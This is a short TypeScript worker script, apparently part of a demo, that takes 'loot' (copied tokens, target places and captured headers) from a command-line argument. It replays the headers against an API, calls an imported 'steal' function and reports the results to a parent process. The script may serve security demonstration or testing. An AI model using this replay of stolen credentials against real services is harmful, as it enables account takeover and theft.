import { steal } from '../../examples/demo/thief.ts'

/** What was copied, and where it is tried. */
export interface Loot {
  readonly tokens: Parameters<typeof steal>[0]
  readonly places: Parameters<typeof steal>[1]
  /** The headers of a call that was answered. */
  readonly headers: Readonly<Record<string, string>>
}

const { tokens, places, headers }: Loot = JSON.parse(process.argv[2] as string)
const { status } = await fetch(places.api, { headers })
process.send?.([{ what: 'the whole request', status }, ...(await steal(tokens, places))])
process.disconnect?.()
